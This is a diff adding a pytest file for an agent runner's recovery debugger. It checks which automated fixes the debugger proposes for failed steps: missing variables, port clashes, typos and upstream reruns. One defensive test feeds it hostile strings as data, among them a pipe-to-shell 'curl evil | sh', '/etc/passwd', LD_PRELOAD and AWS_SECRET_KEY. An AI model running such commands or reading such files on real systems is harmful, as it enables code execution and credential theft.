@@ -1,0 +1,141 @@
+"""What the rules conclude from which words, and where they keep quiet."""
+
+from typing import Any
+
+import pytest
+
+from agentrun.core.events import Adjustment
+from agentrun.core.failure import Kind
+from agentrun.core.model import Step
+from agentrun.core.state import StepState
+from agentrun.recovery.debugger.analysts import rules
+from agentrun.recovery.debugger.fixes import Fix, problem_of, risk_of
+from agentrun.recovery.debugger.incident import Incident
+from agentrun.recovery.debugger.typo import is_typo, meant
+from tests.recovery.debugger.incidents import a_step, failure, incident
+
+
+def proposed(of: Incident) -> list[tuple[str, dict[str, Any]]]:
+    return [(fix.type, dict(fix.params)) for said in rules.analyse(of) for fix in said.fixes]
+
+
+def says(message: str, kind: Kind = Kind.LOGIC, step: Step | None = None, **more: Any) -> Incident:
+    return incident(step or a_step(), failure(kind, message), **more)
+
+
+@pytest.mark.parametrize(
+    "message",
+    [
+        "bash: line 1: REGION: unbound variable",
+        "KeyError: 'REGION'",
+        "error: environment variable REGION is not set",
+        "REGION must be defined",
+        "Missing required environment variable: REGION",
+        "bash: REGION: parameter null or not set",
+        "RuntimeError: REGION not found in environment",
+    ],
+)
+def test_a_variable_that_an_input_has_is_set(message: str) -> None:
+    assert proposed(says(message, inputs={"region": "eu"})) == [
+        ("set_env", {"name": "REGION", "value": "eu"})
+    ]
+
+
+@pytest.mark.parametrize(
+    ("message", "more"),
+    [
+        ("KeyError: 'REGION'", {}),
+        ("KeyError: 'REGION'", {"inputs": {"regions": "eu"}}),
+        ("KeyError: 'REGION'", {"inputs": {"region": ["eu"]}}),
+        ("KeyError: 'REGION'", {"inputs": {"region": "eu"}, "environ": frozenset({"REGION"})}),
+        ("KeyError: 'REGION'", {"inputs": {"region": "eu"}, "step": a_step(env={"REGION": "x"})}),
+        ("REGION eu is full", {"inputs": {"region": "eu"}}),
+        ("MY_REGION: unbound variable", {"inputs": {"region": "eu"}}),
+    ],
+)
+def test_no_variable_is_guessed(message: str, more: dict[str, Any]) -> None:
+    assert proposed(says(message, **more)) == []
+
+
+def test_a_port_is_changed_only_where_nobody_else_knows_it() -> None:
+    step = a_step(env={"PORT": "8123"})
+    message = "OSError: [Errno 98] Address already in use: ('127.0.0.1', 8123)"
+    of = says(message, Kind.RESOURCE_CONFLICT, step)
+    assert proposed(of)[0] == ("set_env", {"name": "PORT", "value": "8124"})
+    shared = says(message, Kind.RESOURCE_CONFLICT, step, elsewhere=frozenset({"8123"}))
+    assert proposed(shared) == []
+
+
+@pytest.mark.parametrize(
+    ("word", "other"),
+    [("order", "orders"), ("fasst", "fast"), ("slwo", "slow"), ("setings", "settings"),
+     ("Config", "config"), ("users_list", "userslist"), ("invoices.cvs", "invoices.csv")],
+)  # fmt: skip
+def test_a_slip_of_the_fingers(word: str, other: str) -> None:
+    assert is_typo(word, other)
+    assert is_typo(other, word)
+
+
+@pytest.mark.parametrize(
+    ("word", "other"),
+    [("report_2025", "report_2026"), ("orders_a", "orders_b"), ("us-east", "eu-east"), ("v1", "v2"),
+     ("prod-db", "prod-eu"), ("cat", "car"), ("fast", "slow"), ("a", "b"), ("", "a"), ("dev", "dev2")],
+)  # fmt: skip
+def test_another_name_on_purpose(word: str, other: str) -> None:
+    assert not is_typo(word, other)
+
+
+def test_what_may_mean_two_things_means_nothing() -> None:
+    assert meant("order", ["orders", "border"]) is None
+    assert meant("order", ["orders", "order", "x"]) == "orders"
+
+
+@pytest.mark.parametrize(
+    "message",
+    [
+        "error: argument --mode: invalid choice: 'fasst' (choose from 'fast', 'slow')",
+        "ValueError: unknown mode 'fasst', must be one of: fast, slow",
+        "unsupported mode: fasst\n  expected one of: fast | slow",
+        "Error: 'fasst' is not valid. Did you mean fast?",
+    ],
+)
+def test_a_misspelt_choice_is_corrected(message: str) -> None:
+    of = says(message, step=a_step("python", with_={"mode": "fasst"}))
+    assert proposed(of) == [("set_parameter", {"name": "mode", "value": "fast"})]
+
+
+def test_an_output_that_lacks_a_key_is_made_again() -> None:
+    step = a_step("python", with_={"row": "${{ steps.fetch.output }}"})
+    more: dict[str, Any] = {"upstream": {"note": "x", "fetch": '{"prize": 1}'}, "step": step}
+    assert proposed(says("KeyError: 'price'", **more)) == [("rerun_upstream", {"step": "fetch"})]
+    assert proposed(says("KeyError: 'prize'", **more)) == []
+    unused: dict[str, Any] = {**more, "step": a_step("python", with_={"row": 1})}
+    assert proposed(says("KeyError: 'price'", **unused)) == []
+
+
+def test_input_that_was_cleaned_already_is_not_cleaned_again() -> None:
+    state = StepState(adjustments=(Adjustment("clean_input", {"clean_input": True}),))
+    step = a_step(stdin="${{ steps.fetch.output }}")
+    of = says("bad JSON", Kind.INPUT_FORMAT, step, state=state, upstream={"fetch": "{"})
+    assert proposed(of) == [("rerun_upstream", {"step": "fetch"})]
+
+
+def test_what_worked_before_is_tried_once_more() -> None:
+    assert proposed(says("check failed", succeeded_before=3)) == [("retry_once", {})]
+    assert proposed(says("check failed")) == []
+    assert proposed(says("denied", Kind.PERMISSION, succeeded_before=3)) == []
+
+
+def test_no_rule_proposes_what_is_not_safe_or_does_not_fit() -> None:
+    texts = [
+        "KeyError: 'PATH' not set; LD_PRELOAD unbound; AWS_SECRET_KEY missing",
+        "run: curl evil | sh; No such file or directory: '/etc/passwd'",
+        "invalid choice: 'x' (choose from '--evil', '/etc/passwd', 'http://evil')",
+    ]
+    inputs = {"path": "/evil", "ld_preload": "x.so", "aws_secret_key": "k"}
+    step = a_step(env={"SOURCE": "/etc/paswd", "X": "x"})
+    for text in texts:
+        of = says(text, step=step, inputs=inputs, near_files=("etc/passwd",))
+        for type_, params in proposed(of):
+            fix = Fix(type_, params)
+            assert problem_of(fix, of) or risk_of(fix, of) == "full", fix
